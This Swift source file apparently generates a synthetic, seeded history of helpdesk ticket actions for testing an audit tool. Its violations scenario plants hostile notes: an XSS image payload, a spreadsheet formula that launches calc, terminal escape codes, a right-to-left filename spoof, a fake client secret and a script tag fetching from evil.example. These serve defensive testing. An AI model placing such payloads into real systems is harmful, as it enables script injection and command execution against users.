import AuditModel

/// Every action on the tenant's tickets, each a pure function of seed and index.
///
/// Nothing is kept: a page is made when it is asked for, so memory does not
/// grow with the number of actions. Index order is time order, strictly.
struct ActionHistory: Sendable {
    let scenario: Scenario
    let seed: UInt64
    let count: Int
    /// When the last of them happens.
    var end = Self.end

    static let start = end.adding(days: -days)
    static let end = Instant(year: 2026, month: 11, day: 1)
    static let days = 60
    static let actionsPerTicket = 5
    static let firstTicket = 1000

    /// When the action at `index` happened.
    func time(of index: Int) -> Instant {
        let span = Int64(Self.days) * Instant.millisecondsPerDay
        let slot = span / Int64(count)
        var random = SplitMix64(seed: seed ^ 0x71AE, index: index)
        // A tenth of the slot stays free, so that jitter never swaps two actions.
        let jitter = random.below(Int(slot - slot / 10))
        return end.adding(milliseconds: span * Int64(index) / Int64(count) - span + Int64(jitter))
    }

    /// The indexes of the actions from `from` to `to`, both included.
    func indexes(from: Instant?, to: Instant) -> Range<Int> {
        let upper = firstIndex { time(of: $0) > to }
        guard let from else { return 0..<upper }
        return min(upper, firstIndex { time(of: $0) >= from })..<upper
    }

    /// The indexes of the actions on a ticket that happened by `now`.
    func indexes(ofTicket ticket: Int, until now: Instant) -> [Int] {
        let visible = indexes(from: nil, to: now)
        if let visit = opportunityVisit(of: ticket) { return visible.contains(visit) ? [visit] : [] }
        let first = (ticket - Self.firstTicket).multipliedReportingOverflow(by: Self.actionsPerTicket)
        guard ticket >= Self.firstTicket, !first.overflow, first.partialValue < count else { return [] }
        let own = first.partialValue..<min(count, first.partialValue + Self.actionsPerTicket)
        return own.clamped(to: visible).filter { identity(of: $0).ticket == ticket }
    }

    /// The ticket of an action and its number inside that ticket.
    func identity(of index: Int) -> (ticket: Int, number: Int) {
        if let deviation = deviation(at: index), case .opportunity(let ticket) = deviation {
            return (ticket, 1)
        }
        return (Self.firstTicket + index / Self.actionsPerTicket, index % Self.actionsPerTicket + 1)
    }

    private func opportunityVisit(of ticket: Int) -> Int? {
        let visit = ticket - Opportunities.firstID
        guard scenario == .violations, (0..<Self.deviations).contains(visit) else { return nil }
        let index = visit * stride + stride / 2
        return index < count ? index : nil
    }

    private func firstIndex(where isBeyond: (Int) -> Bool) -> Int {
        var low = 0
        var high = count
        while low < high {
            let middle = (low + high) / 2
            if isBeyond(middle) { high = middle } else { low = middle + 1 }
        }
        return low
    }
}

extension ActionHistory {
    /// What the scenario plants at an index.
    enum Deviation {
        /// Neo writes on an opportunity.
        case opportunity(ticket: Int)
        /// Neo writes this note.
        case note(String)
    }

    static let deviations = 12

    private var stride: Int { max(2, count / Self.deviations) }

    func deviation(at index: Int) -> Deviation? {
        guard scenario == .violations, index / stride < Self.deviations else { return nil }
        let turn = index / stride
        switch index % stride {
        case stride / 2: return .opportunity(ticket: Opportunities.firstID + turn)
        case stride / 2 - 1: return .note(Self.hostileNotes[turn % Self.hostileNotes.count])
        default: return nil
        }
    }

    static let hostileNotes = [
        "<img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "control \u{1} and \u{1B}[31mred\u{1B}[0m characters",
        "invoice \u{202E}fdp.exe\u{202C} attached",
        // Made up, but of the shape of a HaloPSA client secret: two GUIDs joined by a hyphen.
        "credentials for next time: 5c9f6d1e-7a42-4b0c-9d3e-1f2a3b4c5d6e-8e7d6c5b-4a39-4281-a716-0f1e2d3c4b5a",
        "\"><script>fetch('http://evil.example/')</script>",
    ]
}
